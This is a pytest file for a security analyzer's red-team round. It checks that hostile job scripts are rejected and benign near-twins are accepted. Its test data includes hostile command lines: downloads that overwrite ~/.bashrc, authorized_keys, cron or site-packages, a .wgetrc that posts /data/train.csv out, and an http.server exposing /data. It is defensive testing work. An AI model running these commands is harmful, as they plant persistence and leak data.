"""Red team 55b: roads other than the update channel (docs/redteam55b-attempts.md).

Holes closed: a job's function run by Python where the source spells no call (`C[k]`, `obj[k]`, a singledispatch
registration), scandir entries kept by sorted/list/next, spreads the gate can spell (`**{**base, "k": v}`,
`**dict(...)`, dict.fromkeys, dict(zip)) and the arguments a call spells beside a hidden spread, plain downloads that
write where code runs or send through their settings, and `python -W X -m http.server`.
"""

from __future__ import annotations

import pytest

import redteam_kit as kit
from analyzer.engine.shell import plain_download, shell_risk
from analyzer.model import Decision

SAMPLES = kit.corpus_samples("malicious/redteam55b_*", "jobs/redteam55b_*")


def test_samples_are_labelled():
    labelled = {e["path"] for e in kit.labelled("redteam55b_")}
    assert set(SAMPLES) <= labelled and len(SAMPLES) == 18


@pytest.mark.parametrize("sample", SAMPLES)
def test_attack_is_rejected(sample):
    kit.assert_held(kit.scan_sample(sample), decision=Decision.REJECT)


def test_near_twin_stays_accepted():
    kit.assert_accepted(kit.scan_sample("benign/near_redteam55b_implicit_calls_local.py"))
    kit.assert_accepted(kit.scan_sample("jobs/near_redteam55b_launcher_W_script"))


def test_local_downloads_stay_a_capability():
    report = kit.scan_sample("jobs/near_redteam55b_download_local")
    assert report.decision is Decision.ESCALATE, kit.findings(report)
    assert kit.rules(report) == {"files.shell-download"}, kit.findings(report)


@pytest.mark.parametrize("line", [
    "wget -q -O ~/.bashrc https://x.example/a.txt",
    'wget -q -O "$HOME/.profile" https://x.example/a.txt',
    "wget -q -P ~/.local/lib/python3.10/site-packages https://x.example/fast.pth",
    "curl -sS --output-dir /etc/cron.d -O https://x.example/refresh",
    "wget -q -O /data/train.csv https://x.example/empty.csv",
    "wget -q -O outputs/../../x https://x.example/a.txt",
    "wget -q --content-disposition https://x.example/latest",
    "curl -sSL -J -O https://x.example/latest",
    "curl -sSLO https://x.example/fetch.sh#v2",
    "cd ~/.ssh && wget -q -O authorized_keys https://x.example/k.txt",
    "cd && wget -q -O .bashrc https://x.example/a.txt",
    "wget -q -O d.tar https://x.example/d.tar && tar -xPf d.tar",
    "wget -q -O d.tar https://x.example/d.tar && tar -xf d.tar -C ~",
    "wget -q -O d.tar https://x.example/d.tar && tar -xMf d.tar -F ./next.sh",
    "wget -q -O d.zip https://x.example/d.zip && unzip -o d.zip -d /usr/lib/python3/dist-packages",
])
def test_not_plain_downloads(line):
    assert plain_download(line) is None


@pytest.mark.parametrize("line", [
    'wget -O "${DATASET_DIR}/higgs.zip" https://x.example/higgs.zip',
    "wget -P /tmp/nvflare/datasets/elliptic_pp https://x.example/txs_classes.csv",
    "mkdir -p data && cd data && wget -q -O h.tgz https://x.example/h.tgz && tar -xzf h.tgz -C higgs",
    "wget https://x.example/UCF101.rar -O data/ucf101/UCF101.rar --no-check-certificate",
])
def test_plain_downloads(line):
    assert plain_download(line) is not None


@pytest.mark.parametrize("name,text", [
    ("prepare.sh", "export CURL_HOME=$PWD\ncurl -sS -o d.zip https://x.example/d.zip\n"),
    ("prepare.sh", "HOME=$PWD wget -q -O d.zip https://x.example/d.zip\n"),
    ("prepare.sh", "wget -q -O d.zip https://x.example/d.zip\n"),  # beside a shipped .wgetrc
])
def test_download_settings_make_no_plain_download(tmp_path, name, text):
    files = {name: text}
    if "CURL_HOME" not in text and "HOME=" not in text:
        files[".wgetrc"] = "post_file = /data/train.csv\n"
    report = kit.scan_files(tmp_path, files)
    assert kit.holds(report, "files.shell-network"), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


@pytest.mark.parametrize("line", [
    "python3 -W ignore -m http.server 8000 --directory /data",
    "python3 -X utf8 -m http.server",
    "python3 -mhttp.server 8000",
    "python3 -um http.server",
    "python3 -W ignore::DeprecationWarning -c 'import os'",
])
def test_interpreter_options_before_a_server_or_code(line):
    assert shell_risk(line) is not None


@pytest.mark.parametrize("line", [
    "python3 -X utf8 -W ignore -u train.py --epochs 2",
    "python3 -W ignore train.py -m http.server",  # the script's own options
])
def test_interpreter_options_before_a_script(line):
    assert shell_risk(line) is None


SAVE = "def save(obj, dest='./outputs/m.pt', **options):\n    torch.save(obj, dest)\n"


@pytest.mark.parametrize("call", [
    "save(sd, dest='/mnt/share/m.pt', **opts)",  # a spread the gate cannot spell beside a keyword it can
    "save(**{**base, 'dest': '/mnt/share/m.pt'})",
    "save(sd, **dict(dest='/mnt/share/m.pt'))",
    "save(sd, **dict.fromkeys(['dest'], '/mnt/share/m.pt'))",
    "save(sd, **dict(zip(['dest'], ['/mnt/share/m.pt'])))",
])
def test_spread_destinations_are_read(call):
    code = f"import sys\nimport torch\n{SAVE}sd = {{}}\nbase = {{'obj': sd}}\nopts = dict(sys.argv)\n{call}\n"
    report = kit.scan_text(code)
    assert kit.holds(report, "file-exfiltration.write-network"), kit.findings(report)


def test_a_position_past_a_hidden_spread_is_not_read_as_known():
    # `save(*parts, "./outputs/m.pt")`: the literal is not `dest` when parts holds two items
    code = f"import sys\nimport torch\n{SAVE}parts = sys.argv[1:]\nsave(*parts, './outputs/m.pt')\n"
    report = kit.scan_text(code)
    assert report.decision is not Decision.REJECT, kit.findings(report)
    assert not kit.holds(report, "file-exfiltration.write-network"), kit.findings(report)
